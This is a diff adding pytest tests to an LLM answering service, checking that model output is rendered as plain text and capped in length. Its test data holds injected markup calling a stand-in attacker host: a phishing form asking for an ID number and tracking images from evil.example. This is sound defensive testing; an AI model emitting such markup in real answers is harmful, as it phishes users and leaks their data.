@@ -140,3 +140,24 @@ def test_stream_yields_growing_text_then_the_answer(llm_service, fake_llm):
     assert all(b.startswith(a) and len(b) > len(a) for a, b in itertools.pairwise(texts))
     final = answers[-1]
     assert final.mode == "llm" and texts[-1] == final.text and "1410元" in final.text
+
+
+@pytest.mark.parametrize(
+    "extra",
+    [
+        '<form action="http://evil.example/x"><input placeholder="请输入身份证号"></form>',
+        "![t](http://evil.example/track.png?q=1)",
+        '<img src="http://evil.example/p.png">',
+    ],
+)
+def test_llm_text_is_shown_as_plain_text(llm_service, fake_llm, extra):
+    fake_llm.script = [{"content": GOOD + extra}]
+    a = llm_service.answer(ORPHAN_Q)
+    assert a.mode == "llm" and "1120元" in a.text
+    assert "<form" not in a.text and "<img" not in a.text and "evil.example" not in a.text
+
+
+def test_a_flood_of_llm_text_is_cut(llm_service, fake_llm):
+    fake_llm.script = [{"content": GOOD * 5000}]
+    a = llm_service.answer(ORPHAN_Q)
+    assert len(a.text) < 3000
